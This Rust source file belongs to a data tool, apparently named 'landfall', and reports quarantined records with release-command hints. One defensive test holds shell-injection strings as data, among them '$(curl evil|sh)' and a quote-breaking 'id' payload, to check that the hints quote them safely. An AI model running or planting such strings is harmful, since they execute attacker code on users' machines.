//! What was set aside, and why.

pub mod kinds;

use datafusion::prelude::col;
use serde_json::{Map, Value};

use crate::{
    config::StreamName,
    error::Result,
    query::Session,
    report::{
        counted,
        grid::{Grid, shown},
        quarantine::kinds::{collected, grouped},
        shell,
    },
};

/// Longest sample shown to people, in characters.
const SAMPLE_CHARS_MAX: usize = 160;

/// Records that were set aside for one reason at one place.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Reason {
    /// The stream.
    pub stream: String,
    /// The reason's class.
    pub class: String,
    /// Where in the record, list positions left out; empty for the record itself.
    pub place: String,
    /// How many records.
    pub records: u64,
    /// Bytes of them together.
    pub bytes: u64,
    /// What the contract said, of the sample.
    pub expected: String,
    /// What was there, of the sample.
    pub found: String,
    /// When the first of them was set aside.
    pub first_seen: String,
    /// When the last of them was.
    pub last_seen: String,
    /// The sample's place in raw.
    pub sample: String,
    /// The sample's text, as far as it is kept.
    pub record: Option<String>,
}

/// The reasons of what is in the quarantine of `streams`, at most `rows_max`, the most frequent of each stream first; nothing is
/// masked.
///
/// # Errors
/// Those of the query.
pub async fn reasons(session: &Session, streams: &[StreamName], rows_max: u32) -> Result<Vec<Reason>> {
    let mut names: Vec<&StreamName> = streams.iter().collect();
    names.sort_by_key(|name| name.to_string());
    let mut reasons: Vec<Reason> = Vec::new();
    for name in names {
        let left = (rows_max as usize).saturating_sub(reasons.len());
        let first = vec![
            col("records").sort(false, false),
            col("class").sort(true, false),
            col("place").sort(true, false),
        ];
        let frame = grouped(session, name, None).await?;
        let frame = frame.sort(first).and_then(|frame| frame.limit(0, Some(left)));
        let rows = collected(frame).await?;
        reasons.extend(rows.iter().map(|row| Reason::of(name, row)));
    }
    Ok(reasons)
}

/// The reasons for programs.
pub fn grid(reasons: &[Reason]) -> Grid {
    let mut grid = Grid::new(&[
        "stream",
        "class",
        "place",
        "records",
        "record_bytes",
        "expected",
        "found",
        "first_seen",
        "last_seen",
        "sample",
        "record",
        "hint",
    ]);
    for reason in reasons {
        grid.rows.push(vec![
            reason.stream.as_str().into(),
            reason.class.as_str().into(),
            reason.place.as_str().into(),
            reason.records.into(),
            reason.bytes.into(),
            reason.expected.as_str().into(),
            reason.found.as_str().into(),
            reason.first_seen.as_str().into(),
            reason.last_seen.as_str().into(),
            reason.sample.as_str().into(),
            reason.record.clone().into(),
            reason.hint().into(),
        ]);
    }
    grid
}

/// The reasons for people.
pub fn text(reasons: &[Reason], rows_max: u32) -> String {
    if reasons.is_empty() {
        return "nothing is quarantined\n".to_owned();
    }
    let mut text = String::new();
    let mut stream = "";
    for reason in reasons {
        if reason.stream != stream {
            if !stream.is_empty() {
                text.push('\n');
            }
            text.push_str(&format!("{}\n", reason.stream));
            stream = &reason.stream;
        }
        text.push_str(&reason.text());
    }
    if reasons.len() >= rows_max as usize {
        text.push_str(&format!(
            "\nonly the first {rows_max} reasons are listed: see --limit\n"
        ));
    }
    text
}

impl Reason {
    fn of(stream: &StreamName, row: &Map<String, Value>) -> Self {
        let text = |name: &str| row.get(name).and_then(Value::as_str).map(str::to_owned);
        let number = |name: &str| row.get(name).and_then(Value::as_u64).unwrap_or_default();
        Self {
            stream: stream.to_string(),
            class: text("class").unwrap_or_default(),
            place: text("place").unwrap_or_default(),
            records: number("records"),
            bytes: number("record_bytes"),
            expected: text("expected").unwrap_or_default(),
            found: text("found").unwrap_or_default(),
            first_seen: text("first_seen").unwrap_or_default(),
            last_seen: text("last_seen").unwrap_or_default(),
            sample: text("sample").unwrap_or_default(),
            record: text("record"),
        }
    }

    /// What to do about it.
    pub fn hint(&self) -> String {
        let stream = &self.stream;
        let place = match shell::word(&self.place) {
            // In one word with the option: the name of a member may begin with a hyphen.
            Some(place) if !self.place.is_empty() => format!(" --path={place}"),
            _ => String::new(),
        };
        let release = format!(
            "landfall quarantine release {stream} --class {}{place}",
            self.class
        );
        match self.class.as_str() {
            "raw_corrupt" | "raw_missing" => {
                format!("bring the object back as it was landed, then: {release}")
            }
            "not_json" | "records_path_missing" => {
                format!(
                    "look at the answer; if the recipe misread it, mend `records:` or `format:`, then: {release}"
                )
            }
            "too_deep" | "too_large" | "not_an_object" | "duplicate_key" | "key_missing" => {
                "to be mended at the source: no contract takes it".to_owned()
            }
            "rule_failed" => format!("mend the source, or the rule in the contract, then: {release}"),
            _ => format!(
                "mend the source; or let the contract take it (landfall contract patch {stream}), then: {release}"
            ),
        }
    }

    fn text(&self) -> String {
        let place = if self.place.is_empty() {
            String::new()
        } else {
            format!(" at {}", shown(&self.place, 80))
        };
        let mut text = format!(
            "  {}: {}{place}: expected {}, found {}\n",
            counted(self.records, "record", "records"),
            self.class,
            shown(&self.expected, 80),
            shown(&self.found, 80),
        );
        if let Some(record) = &self.record {
            text.push_str(&format!("      {}\n", shown(record, SAMPLE_CHARS_MAX)));
        }
        text.push_str(&format!(
            "      landfall quarantine show {} {}\n      {}\n",
            self.stream,
            self.sample,
            self.hint()
        ));
        text
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn reasons_are_told_with_a_sample_to_look_at_and_what_to_do() {
        let reasons = [
            Reason {
                stream: "shop.customers".to_owned(),
                class: "enum".to_owned(),
                place: "tier".to_owned(),
                records: 1_200,
                expected: "one of \"gold\"".to_owned(),
                found: "string \"platinum\"".to_owned(),
                sample: "1/4/5".to_owned(),
                record: Some(r#"{"tier":"platinum"}"#.to_owned()),
                ..Reason::default()
            },
            Reason {
                stream: "shop.orders".to_owned(),
                class: "not_json".to_owned(),
                records: 1,
                expected: "JSON".to_owned(),
                found: "not JSON at byte 7".to_owned(),
                sample: "0/2/-1".to_owned(),
                ..Reason::default()
            },
        ];
        insta::assert_snapshot!(text(&reasons, 50), @r#"
        shop.customers
          1,200 records: enum at tier: expected one of "gold", found string "platinum"
              {"tier":"platinum"}
              landfall quarantine show shop.customers 1/4/5
              mend the source; or let the contract take it (landfall contract patch shop.customers), then: landfall quarantine release shop.customers --class enum --path=tier

        shop.orders
          1 record: not_json: expected JSON, found not JSON at byte 7
              landfall quarantine show shop.orders 0/2/-1
              look at the answer; if the recipe misread it, mend `records:` or `format:`, then: landfall quarantine release shop.orders --class not_json
        "#);
        assert!(text(&reasons, 2).ends_with("only the first 2 reasons are listed: see --limit\n"));
        assert_eq!(text(&[], 50), "nothing is quarantined\n");
    }

    #[test]
    fn f160_a_name_in_the_data_is_no_part_of_a_command() {
        let hint = |place: &str| {
            let reason = Reason {
                stream: "shop.orders".to_owned(),
                class: "unknown_field".to_owned(),
                place: place.to_owned(),
                ..Reason::default()
            };
            let hint = reason.hint();
            hint.rsplit_once("then: ").unwrap().1.to_owned()
        };
        let release = "landfall quarantine release shop.orders --class unknown_field";
        for (place, option) in [
            ("lines[].price", " --path='lines[].price'"),
            (r#"["$(curl evil|sh) x"]"#, r#" --path='["$(curl evil|sh) x"]'"#),
            ("a';id;'", r" --path='a'\'';id;'\'''"),
            ("-x", " --path=-x"),
            ("rule total_is_sum", " --path='rule total_is_sum'"),
            ("", ""),
            ("a\u{9b}2J", ""),
        ] {
            assert_eq!(hint(place), format!("{release}{option}"));
        }
    }
}
